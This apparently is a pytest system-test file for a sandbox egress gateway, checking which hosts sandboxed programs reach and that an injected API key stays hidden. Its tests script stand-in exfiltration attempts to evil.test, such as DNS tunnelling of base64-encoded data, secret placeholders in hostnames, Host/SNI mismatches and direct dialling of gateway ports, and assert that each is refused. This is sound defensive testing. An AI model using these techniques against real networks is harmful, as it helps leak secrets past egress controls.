"""Programs in the sandbox that know nothing of a gateway: what they reach, and what they are told at once."""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import trustme

from tests.conftest import CLIENTS
from tests.support.caller import LIMIT
from tests.support.upstream import Upstream, echo
from tests.system.conftest import attack_outside

if TYPE_CHECKING:
    import asyncio
    import subprocess
    from collections.abc import Iterator

    from tests.system.conftest import Attacked

pytestmark = pytest.mark.needs("bubblewrap", "nft")

PLACEHOLDER = "sk-ant-test-placeholder0123456789abcdefgh"
POLICY = """
version: 1
secrets:
  key: {{env: KEY, expose: KEY, placeholder: {placeholder}}}
destinations:
  - {{host: api.test, connect_to: "127.0.0.1:{tls}", ca: {ca}, allow: [GET /page], inject: [{{header: x-key, secret: key}}]}}
  - {{host: api.test, scheme: http, connect_to: "127.0.0.1:{plain}", allow: [GET /page]}}
  - {{host: passed.test, connect_to: "127.0.0.1:{tls}", tls: passthrough, allow: connect}}
  - {{host: forge.test, port: 22, connect_to: "127.0.0.1:{banner}", tls: passthrough, allow: connect}}
  - {{host: talk.test, port: 7, connect_to: "127.0.0.1:{shout}", tls: passthrough, allow: connect}}
  - {{host: "*.wild.test", allow: [GET /page]}}
  - {{host: 203.0.113.22, port: 22, connect_to: "127.0.0.1:{banner}", tls: passthrough, allow: connect}}
"""
IPV6 = Path("/proc/net/if_inet6").exists()
WITHOUT_PROXY = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NODE_USE_ENV_PROXY\n"
FETCH = (
    """node -e "fetch('{url}').then(a => a.text())"""
    """.then(console.log, e => {{ console.log(String(e.cause)); process.exit(9) }})" """
)


async def greet_first(server: Upstream, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Like SSH: the server begins."""
    writer.write(b"SSH-2.0-stand_in\r\n")
    await writer.drain()
    while line := await reader.readline():
        writer.write(b"you said " + line)
        await writer.drain()


async def shout(server: Upstream, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The client begins."""
    while line := await reader.readline():
        writer.write(line.upper())
        await writer.drain()


class Town:
    """A caller, and servers outside that a policy is about."""

    def __init__(self, caller: Attacked) -> None:
        ca = trustme.CA()
        self.caller = caller
        self.tls = Upstream(ca, "api.test", "passed.test", "evil.test")
        self.plain = Upstream(None, handler=echo)
        self.banner = Upstream(None, handler=greet_first)
        self.shout = Upstream(None, handler=shout)
        self.servers = (self.tls, self.plain, self.banner, self.shout)
        roots = caller.file(caller.home / "servers.pem", ca.cert_pem.bytes().decode(), 0o644)
        ports = {"tls": self.tls.port, "plain": self.plain.port, "banner": self.banner.port, "shout": self.shout.port}
        policy = POLICY.format(ca=roots, placeholder=PLACEHOLDER, **ports)
        caller.file(caller.home / ".config/outward/policy.yaml", policy)
        caller.environment |= {"KEY": "sk-ant-test-REAL", "PATH": f"{CLIENTS}:/usr/local/bin:/usr/bin:/bin"}

    def run(self, line: str) -> subprocess.CompletedProcess[str]:
        return self.caller.inside(WITHOUT_PROXY + line)

    def python(self, code: str) -> list[str]:
        """What a program prints, line by line; it has ``talk``, which connects, says something and returns the answer."""
        program = self.caller.file(self.caller.workspace / "program.py", TALK + code, 0o644)
        done = self.run(f"/usr/bin/python3 {program}")
        assert done.returncode == 0, done.stderr
        return done.stdout.splitlines()

    def codes(self, host: str) -> set[tuple[str, str]]:
        """What was refused of ``host``: kinds and codes."""
        return {(r["kind"], r["code"]) for r in self.caller.journal() if r.get("host") == host and "code" in r}

    @property
    def reached(self) -> int:
        return sum(server.connections for server in self.servers)


TALK = """
import errno, os, socket, ssl, sys

def talk(host, port, say=b"", family=0):
    try:
        for family, kind, protocol, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
            sock = socket.socket(family, kind, protocol)
            sock.settimeout(30)
            sock.connect(address)
            if say:
                sock.sendall(say)
            return sock.recv(4096)
    except socket.gaierror:
        return "no such name"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))

def handshake(host, port, sni, say):
    context = ssl.create_default_context()
    try:
        with context.wrap_socket(socket.create_connection((host, port), 30), server_hostname=sni) as tls:
            tls.sendall(say)
            return tls.recv(4096)
    except OSError as error:
        return type(error).__name__

"""


@pytest.fixture
def town(caller: Attacked) -> Iterator[Town]:
    town = Town(caller)
    yield town
    for server in town.servers:
        server.close()


# -- names and what is spoken at them


@pytest.mark.needs("node24")
def test_fetch_of_node_without_any_setting(town: Town) -> None:
    done = town.run(FETCH.format(url="https://api.test/page"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert town.tls.seen[0]["x-key"] == "sk-ant-test-REAL"
    assert "sk-ant-test-REAL" not in done.stdout
    denied = town.run(FETCH.format(url="https://evil.test/page"))
    assert denied.returncode == 9
    assert "ENOTFOUND" in denied.stdout
    assert town.codes("evil.test") == {("dns", "host_not_allowed")}
    assert "path_not_allowed" in town.run(FETCH.format(url="https://api.test/other")).stdout
    assert town.tls.connections == 1


@pytest.mark.needs("curl")
def test_curl_without_proxy(town: Town) -> None:
    done = town.run(
        "curl -sS http://api.test/page; curl -sS --ipv4 https://api.test/page; curl -sS https://evil.test/page"
    )
    assert len(town.plain.seen) == 1
    assert len(town.tls.seen) == 1
    assert "Could not resolve host: evil.test" in done.stderr


def test_a_server_that_speaks_first_is_reached_by_name(town: Town) -> None:
    """SSH; also to an address that the policy spells out. Neither another port, nor another name."""
    assert town.python(
        "print(talk('forge.test', 22))\n"
        "print(talk('203.0.113.22', 22))\n"
        "print(talk('talk.test', 7, b'hello\\n'))\n"
        "print(talk('evil.test', 22))\n"
    ) == ["b'SSH-2.0-stand_in\\r\\n'", "b'SSH-2.0-stand_in\\r\\n'", "b'HELLO\\n'", "no such name"]
    (tunnel,) = [r for r in town.caller.journal() if r.get("host") == "forge.test" and r["phase"] == "start"]
    assert (tunnel["port"], tunnel["kind"], tunnel["verdict"]) == (22, "tunnel", "allow")
    before = town.reached
    assert (
        town.python(
            "print(talk('forge.test', 23, b'hello\\n'))\n"
            "print(talk('api.test', 22, b'SSH-2.0-me\\n'))\n"
            "print(talk('203.0.113.23', 22, b'SSH-2.0-me\\n'))\n"
            "print(talk('203.0.113.22', 443, b'\\0\\n'))\n"
        )
        == ["b''"] * 4
    )
    assert town.reached == before
    assert town.codes("api.test") == {("connect", "port_not_allowed")}


@pytest.mark.needs("ssh")
def test_ssh_itself(town: Town) -> None:
    """The real client gets as far as a server that only has a banner lets it."""
    options = "-v -o BatchMode=yes -o ConnectTimeout=20 -F none"
    assert "software version stand_in" in town.run(f"ssh {options} forge.test").stderr
    assert "Could not resolve hostname evil.test" in town.run(f"ssh {options} evil.test").stderr
    assert "software version" not in town.run(f"ssh {options} api.test").stderr
    assert town.banner.connections == 1


def test_what_is_passed_through_by_name_goes_to_that_name(town: Town) -> None:
    """TLS in a tunnel names the host that was dialled, and plain HTTP, which could name another, is not passed through."""
    assert town.python(
        "ssl.create_default_context = ssl._create_unverified_context\n"
        "print(handshake('passed.test', 443, 'passed.test', b'GET / HTTP/1.1\\r\\n\\r\\n')[:12])\n"
        "print(handshake('passed.test', 443, 'evil.test', b'GET / HTTP/1.1\\r\\n\\r\\n'))\n"
        "print(talk('passed.test', 443, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'))\n"
        "print(talk('forge.test', 22, b'GET / HTTP/1.1\\r\\n\\r\\n') != b'')\n"
    )[:3] == ["b'HTTP/1.1 200'", "ConnectionResetError", "ECONNRESET"]
    assert len(town.tls.seen) == 1
    assert town.codes("passed.test") == {("tunnel", "host_mismatch")}


# -- questions


DIG = """
import struct
def dig(server, name, kind, family=socket.AF_INET, stream=False):
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    message = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", kind, 1)
    sock = socket.socket(family, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    sock.settimeout(30)
    try:
        sock.connect((server, 53))
        sock.sendall(struct.pack("!H", len(message)) + message if stream else message)
        answer = sock.recv(4096)[2 if stream else 0:]
    except OSError as error:
        return type(error).__name__
    return answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
"""


def test_questions_by_any_way_are_answered_here(town: Town) -> None:
    """Tunnelling by DNS: whatever resolver is asked, by either transport, for whatever type, no question leaves."""
    ways = [
        ("127.0.0.1", "AF_INET", False),
        ("127.0.0.1", "AF_INET", True),
        ("192.0.2.53", "AF_INET", False),
        ("192.0.2.53", "AF_INET", True),
    ]
    if IPV6:
        ways += [("::1", "AF_INET6", False), ("2001:db8::53", "AF_INET6", False), ("2001:db8::53", "AF_INET6", True)]
    code = DIG + "".join(
        f"print(dig({server!r}, {name!r}, {kind}, socket.{family}, {stream}))\n"
        for server, family, stream in ways
        for name, kind in (("api.test", 1), ("c2VjcmV0.evil.test", 16), ("c2VjcmV0.evil.test", 1), ("api.test", 16))
    )
    assert town.python(code) == ["(0, 1)", "(3, 0)", "(3, 0)", "(0, 0)"] * len(ways)
    records = [record for record in town.caller.journal() if record["kind"] == "dns"]
    assert len(records) == 4 * len(ways), "every question is in the journal"
    assert {record["method"] for record in records} == {"DNS", "DNS TXT"}
    assert town.reached == 0


@contextmanager
def resolver(address: str) -> Iterator[list[bytes]]:
    """Somebody's name server on this machine: what it was asked."""
    asked: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((address, 53))
        server.settimeout(0.1)
        over = threading.Event()

        def serve() -> None:
            while not over.is_set():
                try:
                    message, asker = server.recvfrom(4096)
                except TimeoutError:
                    continue
                asked.append(message)
                server.sendto(message[:2] + struct.pack("!5H", 0x8180, 1, 0, 0, 0) + message[12:], asker)

        thread = threading.Thread(target=serve)
        thread.start()
        yield asked
        over.set()
        thread.join()


@pytest.mark.needs("root")
def test_a_resolver_on_the_host_is_not_asked(town: Town) -> None:
    with resolver("127.0.0.53") as asked:
        assert attack_outside("question", "127.0.0.53", "c2VjcmV0.evil.test") == "OPEN"
        assert len(asked) == 1
        assert town.caller.attack("question", "127.0.0.53", "c2VjcmV0.evil.test").startswith("CLOSED")
        assert len(asked) == 1


def test_a_placeholder_in_a_name_is_reported(town: Town) -> None:
    cut = f"{PLACEHOLDER[:20]}.{PLACEHOLDER[20:].upper()}"
    assert town.python(f"print(talk('{cut}.wild.test', 443), talk('{PLACEHOLDER}.evil.test', 443))") == [
        "no such name no such name"
    ]
    leaks = [record for record in town.caller.journal() if record.get("code") == "placeholder_leak"]
    assert leaks
    assert all(record["secrets"] == ["key"] for record in leaks)


def test_names_below_a_wildcard_stay_apart(town: Town) -> None:
    first, second, again = town.python(
        "for name in ('a.wild.test', 'b.wild.test', 'a.wild.test'): print(socket.gethostbyname(name))\n"
    )
    assert first == again != second


# -- everything else is refused at once


def test_datagrams_are_refused_at_once(town: Town) -> None:
    """QUIC: a client that gets an error goes on with TCP; one that waits, waits."""
    lines = town.python(
        "for address in ('192.0.2.1', '2001:db8::1', '224.0.0.251'):\n"
        "    family = socket.AF_INET6 if ':' in address else socket.AF_INET\n"
        "    for connected in (True, False):\n"
        "        try:\n"
        "            sock = socket.socket(family, socket.SOCK_DGRAM)\n"
        "            sock.settimeout(30)\n"
        "            if connected:\n"
        "                sock.connect((address, 443))\n"
        "                sock.send(b'x')\n"
        "            else:\n"
        "                sock.sendto(b'x', (address, 443))\n"
        "            print('sent', sock.recv(1))\n"
        "        except TimeoutError:\n"
        "            print('waited')\n"
        "        except OSError as error:\n"
        "            print('refused', error)\n"
    )
    assert len(lines) == 6
    assert all(line.startswith("refused") for line in lines), lines


def test_whoever_is_dialled_answers_where_there_is_no_cage(town: Town) -> None:
    assert attack_outside("speak", "AF_INET", "127.0.0.1", town.shout.port) == "OPEN"
    assert attack_outside("speak", "AF_INET", "127.0.0.1", town.banner.port) == "OPEN"
    for server in (town.shout, town.banner):
        assert town.caller.attack("speak", "AF_INET", "127.0.0.1", server.port).startswith("CLOSED")


def test_datagrams_get_out_where_there_is_no_cage() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(LIMIT)
        thread = threading.Thread(target=lambda: server.sendto(b"x", server.recvfrom(16)[1]))
        thread.start()
        assert attack_outside("udp", "127.0.0.1", server.getsockname()[1]) == "OPEN"
        thread.join()


def test_echo_requests_are_refused(town: Town) -> None:
    assert town.caller.attack("family", "AF_INET", "SOCK_DGRAM", 1).startswith("CLOSED")


@pytest.mark.needs("ipv6")
def test_addresses_of_ipv6_are_judged_like_others(town: Town) -> None:
    asked = "b'GET /page HTTP/1.1\\r\\nHost: {}.test\\r\\n\\r\\n'"
    assert town.python(
        f"print(handshake('2001:db8::5', 443, 'api.test', {asked.format('api')})[:12])\n"
        f"print(handshake('2001:db8::5', 443, 'evil.test', {asked.format('evil')})[:12])\n"
        "print(talk('2001:db8::5', 22, b'SSH-2.0-me\\n'))\n"
    ) == ["b'HTTP/1.1 200'", "b'HTTP/1.1 403'", "b''"]
    assert town.tls.connections == 1


# -- the sandbox's own servers


def test_servers_of_the_sandbox_itself(town: Town) -> None:
    """On the ports that are captured elsewhere, too, and by the name that everybody uses."""
    lines = town.python(
        "for family, address, port, name in (\n"
        "    (socket.AF_INET, '127.0.0.1', 80, 'localhost'),\n"
        "    (socket.AF_INET, '127.0.0.1', 443, '127.0.0.1'),\n"
        "    (socket.AF_INET6, '::1', 443, 'localhost'),\n"
        "    (socket.AF_INET, '127.0.0.2', 8080, '127.0.0.2'),\n"
        "    (socket.AF_INET, '0.0.0.0', 3000, 'app.localhost'),\n"
        "):\n"
        "    server = socket.create_server((address, port), family=family)\n"
        "    client = socket.create_connection((name, port), 30)\n"
        "    server.accept()[0].sendall(b'here')\n"
        "    print(client.recv(4))\n"
        "    client.close(); server.close()\n"
        "a, b = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in 'ab')\n"
        "a.bind(('127.0.0.1', 0)); a.settimeout(30)\n"
        "b.sendto(b'datagram', a.getsockname()); print(a.recv(16))\n"
    )
    assert lines == ["b'here'"] * 5 + ["b'datagram'"]
    assert not [record for record in town.caller.journal() if record["kind"] != "dns"]


def test_the_ports_of_the_gateway_are_no_way_round(town: Town) -> None:
    """Dialling the listeners directly, without being redirected."""
    answer = town.python("print(talk('127.0.0.1', 3129, b'GET /page HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'))")[0]
    assert "address_not_allowed" in answer
    assert town.reached == 0


def test_addresses_that_stand_for_nothing(town: Town) -> None:
    addresses = ["198.18.0.1", "198.19.7.7", *(["fd6f:7574:7764::7"] if IPV6 else [])]
    asked = "b'GET /page HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'"
    answers = town.python(f"for address in {addresses!r}: print(talk(address, 80, {asked}))")
    assert len(answers) == len(addresses)
    assert all("address_not_allowed" in answer for answer in answers)
    assert town.reached == 0
